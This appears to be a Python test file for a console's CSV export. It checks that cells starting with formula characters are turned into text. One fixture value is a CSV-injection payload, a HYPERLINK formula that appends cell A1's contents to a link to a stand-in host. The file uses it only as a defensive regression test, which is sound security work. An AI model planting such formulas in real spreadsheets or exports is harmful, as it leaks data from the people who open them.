"""CSV and XLSX exports neutralise formulas: a cell that starts with =, +, -, @ is text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from bot.web.console.cells import safe_cell
from storage.db import Database
from storage.models import Area, Child, Person
from tests.integration.console.support import console

NOW = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+86138", "'+86138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("甲村", "甲村"),
        ("a=b", "a=b"),
        (-2, -2),
        (None, None),
    ],
)
def test_safe_cell(value: object, exported: object) -> None:
    assert safe_cell(value) == exported


async def test_a_village_named_like_a_formula_is_text_in_the_csv(db: Database) -> None:
    async with db.transaction() as s:
        town = Area(code="T1", name="一镇", level="township")
        s.add(town)
        await s.flush()
        village = Area(code="V1", name=EVIL, level="village", parent_id=town.id)
        director = Person(name="主任", role="director", phone="+8613800001000", created_at=NOW)
        s.add_all([village, director])
        await s.flush()
        s.add(
            Child(
                code="A1", name="孩子", display_name="A1", birth_date=date(2018, 1, 1), sex="f",
                area_id=village.id, director_id=director.id, next_visit_due=None, active=True,
                created_at=NOW,
            )
        )  # fmt: skip
    async with console(db) as c:
        c.clock.set(NOW)
        async with c.signed_in_as("root", "admin") as (client, _):
            exported = (await client.get("/console/reports/villages.csv")).text
    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
    assert [r["village"] for r in rows] == ["'" + EVIL]
